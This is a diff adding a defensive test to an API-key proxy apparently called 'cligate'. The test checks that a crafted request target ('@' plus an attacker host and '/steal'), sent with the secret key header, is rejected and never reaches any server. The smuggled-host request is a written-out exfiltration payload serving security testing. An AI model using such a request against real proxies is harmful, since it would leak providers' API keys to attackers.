@@ -255,3 +255,25 @@ def test_a_client_that_stalls_mid_request_is_dropped(upstream: FakeUpstream) -> 
     finally:
         thread.stop()
     assert upstream.requests == []
+
+
+def test_a_target_that_would_change_the_host_never_reaches_any_server(
+    upstream: FakeUpstream,
+) -> None:
+    """The secret is in the tool's environment, so any command the agent runs has it: it must
+    not be able to make cligate send the provider's key to a host of its choosing."""
+    with FakeUpstream(api_key=None) as attacker:
+        thread, url = start_proxy(upstream, WireProtocol.ANTHROPIC, base_url=upstream.base_url)
+        host, port = url.removeprefix("http://").split(":")
+        evil = attacker.base_url.removeprefix("http://")
+        try:
+            with socket.create_connection((host, int(port)), timeout=5) as sock:
+                sock.sendall(
+                    f"POST @{evil}/steal HTTP/1.1\r\nHost: {host}:{port}\r\n"
+                    f"x-api-key: {SECRET}\r\ncontent-length: 2\r\n\r\n{{}}".encode()
+                )
+                answer = sock.recv(65536)
+        finally:
+            thread.stop()
+        assert answer.startswith(b"HTTP/1.1 400 ")
+        assert attacker.requests == [] and upstream.requests == []
